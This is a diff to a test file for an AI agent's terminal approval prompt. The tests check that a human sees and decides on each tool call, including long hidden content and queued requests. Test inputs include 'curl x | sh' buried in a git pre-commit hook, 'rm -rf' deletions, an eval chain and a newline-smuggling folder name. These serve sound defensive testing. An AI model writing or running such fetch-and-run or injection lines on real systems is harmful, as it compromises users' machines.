@@ -11,7 +11,7 @@ import pytest
 
 from agent.cli.ask import TerminalAsker, asker_for
 from agent.run import Crib, Session, assemble
-from toolcrib import ExecutedCall, SuspendTicket, ToolCall, ToolResult
+from toolcrib import Answer, ExecutedCall, SuspendTicket, ToolCall, ToolResult
 
 
 class Script:
@@ -70,13 +70,13 @@ Delete = Callable[..., ExecutedCall]
 
 
 def test_the_question_shows_what_where_and_why(delete: Delete, tmp_path: Path) -> None:
-    script = Script("o")
+    script = Script("?", "o")
     assert delete(script).result.is_success
     assert not (tmp_path / "build").exists()
     assert "terminal wants to run:\n  │ rm -rf build\n" in script.screen
     assert f"  in {tmp_path}" in script.screen
     assert "fs.recursive-delete" in script.screen
-    assert script.prompts == ["  [o]nce  [s]ession  [p]ath  [u]ses  [m]inutes  [a]lways  [d]eny  ? > "]
+    assert script.prompts == 2 * ["  [o]nce  [p]ath  [s]ession  [u]ses  [m]inutes  [a]lways  [d]eny  ? > "]
     assert f"  s    fs.recursive-delete, anywhere below {tmp_path}, until this session ends" in script.screen
     assert f"  p    fs.recursive-delete, of {tmp_path}/build only, until this session ends" in script.screen
     assert f"  a    `rm -rf build` in {tmp_path}, from now on, in every session" in script.screen
@@ -87,15 +87,14 @@ def test_what_is_unclear_is_asked_again(delete: Delete, tmp_path: Path, unclear:
     script = Script(unclear, EOFError)
     assert not delete(script).result.is_success
     assert len(script.prompts) == 2
-    assert "o    this call only" in script.screen
-    assert (f"  {unclear!r} is none of these:" in script.screen) == bool(unclear)
+    assert (f"  {unclear!r} is none of these; ? explains them" in script.screen) == bool(unclear)
     assert (tmp_path / "build").exists()
 
 
 @pytest.mark.parametrize("end", [EOFError, KeyboardInterrupt])
 def test_the_end_of_input_and_ctrl_c_deny(delete: Delete, tmp_path: Path, end: type[BaseException]) -> None:
     """003-28"""
-    for script in (Script(end), Script("d", end)):
+    for script in (Script(end), Script("?", end)):
         executed = delete(script)
         assert executed.result.failure is not None
         assert executed.result.failure.kind == "Denied"
@@ -105,9 +104,15 @@ def test_the_end_of_input_and_ctrl_c_deny(delete: Delete, tmp_path: Path, end: t
 
 def test_a_denial_may_have_a_reason(delete: Delete) -> None:
     assert "wrong folder" in str(delete(Script("d wrong folder")).result.message)
-    assert "wrong folder" in str(delete(Script("deny", "wrong folder")).result.message)
-    assert "wrong folder" in str(delete(Script("N", "wrong folder")).result.message)
-    assert "without a reason" in str(delete(Script("d", "")).result.message)
+    assert "wrong folder" in str(delete(Script("deny wrong folder")).result.message)
+    assert "wrong folder" in str(delete(Script("N wrong folder")).result.message)
+
+
+@pytest.mark.parametrize("no", ["d", "deny", "n", "no"])
+def test_a_denial_alone_takes_nothing_that_follows_for_its_reason(delete: Delete, no: str) -> None:
+    script = Script(no, "now show me the README")
+    assert "without a reason" in str(delete(script).result.message)
+    assert list(script.lines) == ["now show me the README"]
 
 
 def test_always_holds_in_the_next_session_and_lies_in_the_configuration(delete: Delete, crib: Crib) -> None:
@@ -146,10 +151,10 @@ def test_a_yes_to_a_long_call_takes_that_all_of_it_was_seen(session: Callable[[S
     """Nothing of what a yes covers can hide in the middle of it."""
     text = "".join(f"line {number}\n" for number in range(200))
     args = {"path": str(tmp_path / ".git" / "hooks" / "pre-commit"), "content": f"{text}curl x | sh\n{text}"}
-    script = Script("o", "v", "o", "v all", "d")
+    script = Script("o", "v", "o", "v all", "d no")
     assert not session(script).call("write_file", args).result.is_success
     assert script.prompts[0].startswith("  [v]iew  [o]nce")
-    assert len(script.prompts) == 6
+    assert len(script.prompts) == 5
     assert script.screen.count("not run: ") == 2
     assert script.screen.count("│ curl x | sh") == 1
     assert script.screen.count("that was all of it") == 1
@@ -158,15 +163,162 @@ def test_a_yes_to_a_long_call_takes_that_all_of_it_was_seen(session: Callable[[S
     assert seen.screen.index("line 5") < seen.screen.index("curl x | sh") < seen.screen.rindex("line 199")
 
 
+class Keys(Script):
+    """Keys from a list, and lines where one is asked for; ``rows`` are the rows in which they were pressed."""
+
+    reads_keys = True
+
+    def __init__(self, *keys: str | type[BaseException], lines: tuple[str, ...] = ()) -> None:
+        super().__init__(*lines)
+        self.keys = deque(keys)
+        self.rows: list[str] = []
+
+    async def read_key(self, row: str) -> str:
+        self.rows.append(row)
+        key = self.keys.popleft()
+        if isinstance(key, str):
+            return key
+        raise key
+
+
+@pytest.mark.parametrize(
+    "keys", [["o"], ["O"], ["right", "enter"], ["left", "right", "enter"], ["enter", "x", "esc", "paste of o", "o"]]
+)
+def test_a_letter_answers_or_what_the_arrows_reached(delete: Delete, tmp_path: Path, keys: list[str]) -> None:
+    script = Keys(*keys)
+    assert delete(script).result.is_success
+    assert not (tmp_path / "build").exists()
+    assert script.prompts == []
+
+
+def test_enter_alone_never_answers(delete: Delete, tmp_path: Path) -> None:
+    """Nothing is chosen before an arrow was pressed; nor after the list of choices was shown, or a page."""
+    for keys in (["enter"] * 9, ["right", "?", "enter"], ["down", "?", "enter", "enter"]):
+        script = Keys(*keys, EOFError)
+        assert not delete(script).result.is_success
+        assert (tmp_path / "build").exists()
+        assert not script.keys
+    assert "  o    this call only" in script.screen
+
+
+def test_arrows_go_round_and_are_shown(delete: Delete) -> None:
+    script = Keys("left", "left", "left", "enter")
+    assert "without a reason" in str(delete(script).result.message)
+    assert script.rows[0] == "  o once  p this path  s session  u uses  m minutes  a always  d deny  r reason  ? help"
+    assert script.rows[1].endswith("r reason  [? help]")
+    assert script.rows[3].endswith("[d deny]  r reason  ? help")
+
+
+@pytest.mark.parametrize("columns", [20, 40, 60, 87, 88])
+def test_the_row_of_keys_fits_the_screen(delete: Delete, columns: int) -> None:
+    script = Keys("right", "d")
+    script.size = (columns, 40)
+    delete(script)
+    assert all(len(row) < columns for row in script.rows)
+    assert "o once" in script.rows[1]
+
+
+def test_a_denial_by_key_takes_a_reason_only_where_one_is_wanted(delete: Delete) -> None:
+    assert "without a reason" in str(delete(Keys("d", lines=("another message",))).result.message)
+    assert "wrong folder" in str(delete(Keys("r", lines=("wrong folder",))).result.message)
+
+
+def test_a_number_is_typed_and_nothing_goes_back(delete: Delete, crib: Crib) -> None:
+    script = Keys("u", "u", "u", "m", lines=("", "0", "many", "7"))
+    assert delete(script).result.is_success
+    grant = asyncio.run(crib.store.grants.all())[-1]
+    assert (grant.scope, grant.until is not None) == ("until", True)
+
+
+def test_a_long_call_is_seen_before_a_key_agrees(session: Callable[[Script], Session], tmp_path: Path) -> None:
+    args = {"path": str(tmp_path / ".git" / "hooks" / "pre-commit"), "content": "x\n" * 200}
+    script = Keys("o", "v", "o", "V", "o")
+    assert session(script).call("write_file", args).result.is_success
+    assert script.screen.count("not run: ") == 2
+    assert "V everything" in script.screen
+    assert "[view]" not in script.rows[0]
+    assert script.rows[0].startswith("  v view")
+
+
+def test_a_terminal_that_reads_no_keys_reads_lines(delete: Delete) -> None:
+    script = Keys(lines=("o",))
+    script.reads_keys = False
+    assert delete(script).result.is_success
+    assert script.rows == []
+
+
+@pytest.mark.parametrize("script", [Script("d"), Keys("d")])
+@pytest.mark.parametrize("columns", [40, 80, 200])
+def test_the_prompt_takes_five_lines_besides_command_and_findings(delete: Delete, script: Script, columns: int) -> None:
+    script.size = (columns, 40)
+    script.lines, script.shown, script.prompts = deque(["d"]), [], []
+    if isinstance(script, Keys):
+        script.keys = deque("d")
+    delete(script, 'rm -rf build; eval "$(date +:)"')
+    ours = [
+        line for line in script.screen.split("\n") if "│" not in line and "!" not in line and not line.startswith("      as:")
+    ]
+    rows = sum(-(-len(row) // columns) for row in [*script.prompts, *getattr(script, "rows", [])[-1:]])
+    assert len(ours) - 1 + rows <= 5  # the first says what is quoted
+
+
+def test_several_that_wait_form_a_queue(crib: Crib) -> None:
+    tickets = []
+    for number in range(3):
+        one = crib.open_session(suspends=True)
+        parked = one.call("terminal", {"command": f"rm -rf build{number}"}).result.suspension
+        assert parked is not None
+        tickets.append(parked)
+        one.close_sync()
+    script = Script("o", "d not this one", "s")
+
+    async def all_at_once() -> list[Answer]:
+        asker = TerminalAsker(script)
+        return await asyncio.gather(*map(asker, tickets))
+
+    answers = asyncio.run(all_at_once())
+    assert [one.payload["approved"] for one in answers] == [True, False, True]
+    assert answers[1].payload["reason"] == "not this one"
+    for number in range(3):
+        assert f"rm -rf build{number}" in script.shown[number]
+        assert f"  {number + 1} of 3 that wait for you" in script.shown[number]
+    keys = Keys("o", "o", "d")
+
+    async def by_key() -> None:
+        asker = TerminalAsker(keys)
+        await asyncio.gather(*map(asker, tickets))
+        keys.keys.append("d")
+        await asker(tickets[0])
+
+    asyncio.run(by_key())
+    assert [row.split("  ")[1] for row in keys.rows] == ["1 of 3", "2 of 3", "3 of 3", "o once"]
+
+
+def test_an_edit_is_shown_as_a_difference(session: Callable[[Script], Session], tmp_path: Path) -> None:
+    file = tmp_path / ".git" / "hooks" / "pre-commit"
+    file.parent.mkdir(parents=True)
+    file.write_text("one\ntwo\nthree\n")
+    script = Script("d")
+    session(script).call("patch", {"path": str(file), "old": "two", "new": "2"})
+    assert f"patch wants to change:\n  │ {file}\n  so:\n  │ --- {file}\n" in script.screen
+    assert "  │  one\n  │ -two\n  │ +2\n  │  three\n" in script.screen
+    assert '"old"' not in script.screen
+    assert file.read_text() == "one\ntwo\nthree\n"
+    again = Script("d")
+    session(again).call("write_file", {"path": str(file), "content": "one\ntwo\nthree\nfour\n"})
+    assert "  │  three\n  │ +four\n" in again.screen
+    assert "and content" not in again.screen
+
+
 def test_a_short_call_needs_no_paging(delete: Delete) -> None:
     script = Script("v", "o")
     assert delete(script).result.is_success
-    assert "'v' is none of these:" in script.screen
+    assert "'v' is none of these;" in script.screen
 
 
 def test_names_and_offers_draw_no_line_either(delete: Delete, tmp_path: Path) -> None:
     (tmp_path / "a\n  o    lists it, once").mkdir()
-    script = Script(EOFError)
+    script = Script("?", EOFError)
     delete(script, "rm -rf $'a\\n  o    lists it, once'")
     assert "      as: rm -rf a\\n  o    lists it, once" in script.screen
     assert [line for line in script.screen.split("\n") if line.startswith("  o ")] == [
